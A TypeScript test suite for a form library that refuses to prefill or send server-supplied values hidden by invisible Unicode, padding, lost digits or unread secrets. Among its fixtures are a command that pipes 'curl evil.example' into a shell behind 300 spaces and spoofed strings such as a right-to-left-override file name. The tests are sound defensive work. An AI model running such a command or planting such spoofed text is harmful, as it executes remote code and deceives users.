import { expect } from '@open-wc/testing';
import { Form } from '../../src/form/form.js';

const text = { type: 'string' };
const lines = { type: 'string', format: 'textarea' };
const list = { type: 'array', items: text };

/** A form with one field, `answer`. */
const asking = (property: object, values?: Record<string, unknown>) =>
  new Form({ properties: { answer: property } }, values && { values });

const codeOf = (character: string) => `U+${character.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;

describe('a default that would look different from what is sent', () => {
  const hiding = [
    ...'\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069', // Embeddings, overrides, isolates.
    ...'\u200B\u200E\u200F\u2060\uFEFF\u00AD\u061C\u3164\uFFF9\u{E0041}', // Invisible.
    ...'\0\b\u001B\u007F\u0085', // Control characters.
  ];
  for (const character of hiding) {
    it(`fills in neither a line, nor a paragraph, nor a list, and is reported: ${codeOf(character)} [END-22]`, () => {
      const value = `invoice_${character}fdp.exe`;
      for (const property of [
        { ...text, default: value },
        { ...lines, default: value },
        { ...list, default: ['fine', value] },
      ]) {
        const form = asking(property);
        expect(form.content()).to.deep.equal({});
        expect(form.schema.issues.map(({ pointer }) => pointer)).to.deep.equal(['/properties/answer/default']);
        expect(form.leaves[0]!.lacksDefault).to.equal(true);
      }
    });
  }

  it('fills in no list with line breaks, which a list shows in one line [END-22]', () => {
    for (const value of ['a\nb', 'a\tb', 'a\u2028b']) {
      expect(asking({ ...list, default: [value] }).content()).to.deep.equal({});
    }
  });

  for (const value of [
    'a\tb',
    ' main',
    'main ',
    'main\u00A0',
    '\u2003main',
    'Donau\u00ADdampf',
    'שלום! \u200F(abc)',
    '\u2067שלום\u2069',
  ]) {
    it(`fills in no line of text, and no list: ${[...value].map(codeOf).join(' ')} [END-22]`, () => {
      for (const form of [asking({ ...text, default: value }), asking({ ...list, default: [value] })]) {
        expect(form.content()).to.deep.equal({});
        expect(form.schema.issues).to.have.length(1);
      }
      expect(asking({ const: value }).isBlocked).to.equal(true);
    });
  }

  it('fills in a text of several lines that is blank only at its ends [SEE-01]', () => {
    for (const value of ['one\ntwo\n', 'one\r\ntwo\r\n', ' one\ntwo ', 'one\n']) {
      expect(asking({ ...lines, default: value }).content()).to.deep.equal({ answer: value });
    }
  });
});

describe('a default that looks like what is sent', () => {
  for (const value of ['می\u200Cخواهم', 'क्\u200Dष', '👩\u200D💻', '❤\uFE0F', 'שלום עולם', 'Zoë', 'a\u00A0b']) {
    it(`fills in its field: ${value} [MCP-08, L10N-02]`, () => {
      expect(asking({ ...text, default: value }).content()).to.deep.equal({ answer: value });
      expect(asking({ ...list, default: [value] }).content()).to.deep.equal({ answer: [value] });
      expect(asking(text, { answer: value }).content()).to.deep.equal({ answer: value });
    });
  }

  it('fills in several lines with their line breaks and tabs [MCP-08, USE-09]', () => {
    for (const value of ['one\n\ttwo\n', 'one\r\ntwo']) {
      expect(asking({ ...text, default: value }).content()).to.deep.equal({ answer: value });
    }
    expect(asking({ ...lines, default: 'a\tb' }).content()).to.deep.equal({ answer: 'a\tb' });
  });

  it('chooses an option whatever its value is, where the server has words of its own for it [MCP-05]', () => {
    const form = asking({ oneOf: [{ const: 'a\u202Eb', title: 'Both' }, { const: 'c' }], default: 'a\u202Eb' });
    expect(form.content()).to.deep.equal({ answer: 'a\u202Eb' });
  });
});

describe('a value that could be sent without a change by the person', () => {
  const options = (count: number) => Array.from({ length: count }, (_, i) => `right ${i}`);
  const fraction = (digits: string) => `2026-02-28T10:30:00.${digits}Z`;
  const dateTime = { ...text, format: 'date-time' };
  const unseen: [what: string, property: object, value: unknown][] = [
    ['a command with its end out of sight', text, `ls -la${' '.repeat(300)}; curl evil.example | sh`],
    ['a name with thousands of selectors', text, `ok${'\uFE01\uFE0E\uFE03'.repeat(700)}`],
    ['an option that is its own label', { enum: ['read\u200B', 'write'] }, 'read\u200B'],
    ['an option with blanks that its label leaves out', { enum: ['a    b', 'c'] }, 'a    b'],
    ['an option whose label is too long', { oneOf: [{ const: 'a', title: 'word '.repeat(300) }, { const: 'b' }] }, 'a'],
    ['a moment with a separator of lines in it', dateTime, '2026-02-28\u202810:30:00Z'],
    ['one of several options', { ...list, items: { enum: ['read', 'all\u{E0061}'] } }, ['read', 'all\u{E0061}']],
    ['a text beside the options', { anyOf: [{ enum: ['A', 'B'] }, text] }, `A${' '.repeat(400)}and B`],
    ['digits of a second that no control shows', dateTime, fraction('1234567890'.repeat(500))],
    ['a second that no control has', dateTime, '2016-12-31T23:59:60Z'],
    ['more preselected options than the card shows', { ...list, items: { enum: options(1001) } }, options(1001)],
    ['nothing but blanks', text, '   '],
    ['an option of invisible characters', { enum: ['x', '\u{E0072}\u{E006D}'] }, '\u{E0072}\u{E006D}'],
    ['a text that takes too long to lay out', text, 'x'.repeat(8 * 1024 + 1)],
  ];
  for (const [what, property, value] of unseen) {
    it(`is not filled in if it is not fully on display, neither as a default nor as a suggestion: ${what} [SEE-01]`, () => {
      for (const form of [asking({ ...property, default: value }), asking(property, { answer: value })]) {
        expect(form.content()).to.deep.equal({});
        expect(form.untouched).to.deep.equal([]);
      }
    });
  }

  const seen: [what: string, property: object, value: unknown][] = [
    ['a long text', text, 'Keep everything private. '.repeat(40).trim()],
    ['code with indentation', lines, `if a:\n${' '.repeat(24)}b()\n\n\n\tc()`],
    ['200 preselected rights', { ...list, items: { enum: options(200) } }, options(200)],
    ['a moment to the millisecond', dateTime, fraction('123')],
    ['a moment with zeros behind the millisecond', dateTime, fraction('123000')],
    ['a number with many digits', { type: 'number' }, 0.30000000000000004],
    ['a day', { ...text, format: 'date' }, '2026-02-28'],
    ['no', { type: 'boolean' }, false],
    ['an option that is empty, beside another one', { ...list, items: { enum: ['', 'x'] } }, ['', 'x']],
  ];
  for (const [what, property, value] of seen) {
    it(`fills in its field if it is fully on display, as a default and as a suggestion: ${what} [SEE-01]`, () => {
      for (const form of [asking({ ...property, default: value }), asking(property, { answer: value })]) {
        expect(form.content()).to.deep.equal({ answer: value });
        expect(form.untouched).to.deep.equal(form.leaves);
        expect(form.leaves[0]!.lacksDefault).to.equal(undefined);
      }
    });
  }

  it('does not count as such once the person has changed it [SEE-01]', () => {
    const form = asking({ ...text, default: 'main' });
    form.enter(form.leaves[0]!, 'dev');
    expect(form.untouched).to.deep.equal([]);
  });

  const group = (more: object) => ({
    type: 'object',
    properties: { on: { type: 'boolean' }, note: text },
    required: ['on'],
    ...more,
  });
  const untouched: [what: string, schema: object, content: object, pointers: string[]][] = [
    ['a fixed value', { properties: { a: { const: 'x' } } }, { a: 'x' }, ['/a']],
    ['a switch that is off', { properties: { a: { type: 'boolean', default: false }, b: text } }, { a: false }, ['/a']],
    ['null', { properties: { a: { type: ['string', 'null'] } }, required: ['a'] }, { a: null }, ['/a']],
    ['an empty list', { properties: { a: { ...list, items: text, minItems: 0 } }, required: ['a'] }, { a: [] }, ['/a']],
    [
      'a member of a group',
      { properties: { g: group({ properties: { on: { type: 'boolean', default: false }, note: text } }) } },
      { g: { on: false } },
      ['/g/on'],
    ],
    [
      'null for a group',
      { properties: { g: group({ type: ['object', 'null'] }) }, required: ['g'] },
      { g: null },
      ['/g'],
    ],
  ];
  for (const [what, schema, content, pointers] of untouched) {
    it(`is among what nobody entered: ${what} [SEE-06]`, () => {
      const form = new Form(schema, { nested: true });
      expect(form.content()).to.deep.equal(content);
      expect(form.untouched.map(({ pointer }) => pointer)).to.deep.equal(pointers);
    });
  }

  it('leaves the list of untouched answers once the person has changed it, even back to what it was', () => {
    const form = new Form({ properties: { a: { ...text, default: 'x' }, b: { ...text, default: 'y' } } });
    const [a, b] = form.leaves;
    form.enter(a!, 'x');
    expect(form.untouched).to.deep.equal([a, b]);
    for (const entry of ['xy', 'x']) form.enter(a!, entry);
    expect(form.untouched).to.deep.equal([b]);
    expect(form.content()).to.deep.equal({ a: 'x', b: 'y' });
  });
});

describe('a fixed value that is not fully on display', () => {
  const hiding = [
    'read\u200B\u202E\u{E0061}',
    `you may read my calendar${' '.repeat(900)}and sell all of my files`,
    'x'.repeat(5000),
  ];
  for (const value of hiding) {
    it(`keeps the form from being sent, required or not: ${value.slice(0, 24)} [SEE-01]`, () => {
      for (const required of [[], ['answer']]) {
        const form = new Form({ properties: { answer: { const: value } }, required });
        expect(form.isBlocked).to.equal(true);
        expect(form.failing).to.have.length(1);
        expect(form.content(true)).to.deep.equal({});
      }
    });
  }

  it('does not keep a form from being sent if its group is not sent [SEE-01]', () => {
    const group = { type: 'object', properties: { a: text, b: { const: 'x\u200B' } } };
    const form = new Form({ properties: { group } }, { nested: true });
    expect(form.isBlocked).to.equal(false);
    form.enter(form.leaves[0]!, 'text');
    expect(form.isBlocked).to.equal(true);
  });

  it('is sent if it has several lines and paragraphs [SEE-01]', () => {
    const value = 'You may:\n\n  1. read\n  2. write';
    expect(asking({ const: value }).content()).to.deep.equal({ answer: value });
  });
});

describe('a secret that the server filled in', () => {
  const secret = { ...text, title: 'PIN code', default: 'transfer 5000 EUR' };

  it('is not sent before the person could read it, even if answers with errors may be sent [SEE-01]', () => {
    const form = asking(secret);
    expect(form.failing).to.have.length(1);
    expect(form.content(true)).to.deep.equal({});
    form.markRead(form.leaves[0]!);
    expect(form.failing).to.deep.equal([]);
    expect(form.content()).to.deep.equal({ answer: 'transfer 5000 EUR' });
  });

  it('is not sent with letters typed behind it, but a text that replaces it is [SEE-01]', () => {
    const form = asking(secret);
    const field = form.leaves[0]!;
    form.enter(field, 'transfer 5000 EUR1');
    expect(form.issue(field)?.keyword).to.equal('unread');
    form.enter(field, '');
    form.enter(field, '1234');
    expect(form.content()).to.deep.equal({ answer: '1234' });
  });

  const restored: [what: string, entries: string[]][] = [
    ['whole', ['', 'transfer 5000 EUR']],
    ['whole, after another text', ['', '1234', 'transfer 5000 EUR']],
    ['in part, as it was before the rest was deleted', ['transfer 5000 ', '', 'transfer 5000 ']],
    ['with letters typed behind it', ['', 'transfer 5000 EUR', 'transfer 5000 EUR1']],
    ['behind other letters', ['', '1', '1transfer 5000 EUR']],
  ];
  for (const [what, entries] of restored) {
    it(`is not sent unread when it is deleted and then restored ${what} [SEE-01]`, () => {
      const form = asking(secret);
      const field = form.leaves[0]!;
      for (const entry of entries) form.enter(field, entry);
      expect(form.issue(field)?.keyword).to.equal('unread');
      expect(form.content(true)).to.deep.equal({});
      form.markRead(field);
      expect(form.content()).to.deep.equal({ answer: entries.at(-1) });
    });
  }

  it('is not sent unread in a list whose texts are removed and restored [SEE-01]', () => {
    const form = asking({ ...list, title: 'Passwords', default: ['12', '34'] });
    const field = form.leaves[0]!;
    form.enter(field, []);
    form.enter(field, ['56']);
    expect(form.content()).to.deep.equal({ answer: ['56'] });
    form.enter(field, ['12', '34']);
    expect(form.issue(field)?.keyword).to.equal('unread');
  });

  it('is not filled in beside options, where no button makes it readable [SEE-01]', () => {
    const form = asking({ title: 'PIN code', anyOf: [{ enum: ['A', 'B'] }, text], default: '1234' });
    expect(form.content()).to.deep.equal({});
  });

  it('is sent if it is the application’s own [SEE-01]', () => {
    expect(asking(secret, { answer: '1234' }).content()).to.deep.equal({ answer: '1234' });
  });
});

describe('a number whose digits may have been lost before the form got it', () => {
  for (const [what, value] of [
    ['beyond 2^53', Number('2512292042121000001')],
    ['of 22 digits', Number('1234567890123456789012')],
  ] as const) {
    for (const type of ['integer', 'number']) {
      it(`is no default of the type ${type}: ${what} [SEE-03]`, () => {
        const form = asking({ type, default: value });
        const [field] = form.leaves;
        expect(field).to.include({ kind: 'number', lacksDefault: true });
        expect(form.content()).to.deep.equal({});
      });
    }

    it(`keeps a form from being sent where the schema fixes it: ${what} [SEE-03]`, () => {
      for (const property of [{ const: value }, { type: 'integer', const: value }]) {
        const form = asking(property);
        expect(form.leaves[0]).to.include({ kind: 'unsupported', reason: 'digits' });
        expect(form.failing).to.have.length(1);
      }
    });

    it(`is not an option: ${what} [SEE-03]`, () => {
      expect(asking({ enum: [1, value] }).leaves[0]).to.include({ kind: 'unsupported', reason: 'digits' });
    });
  }

  it('is not one with so few digits that nobody meant a neighbour [SEE-03]', () => {
    expect(asking({ type: 'number', default: 6.022e23 }).content()).to.deep.equal({ answer: 6.022e23 });
  });
});

describe('a default of several options and a text of one’s own', () => {
  it('keeps the options and the text, each once, when the person adds an option [USE-22]', () => {
    const items = { anyOf: [{ enum: ['Red', 'Green'] }, text] };
    const form = asking({ type: 'array', items, default: ['Red', 'Blue'] });
    const [field] = form.leaves;
    form.enter(field!, [...form.entry(field!), 'Green']);
    expect(form.content()).to.deep.equal({ answer: ['Red', 'Green', 'Blue'] });
  });
});
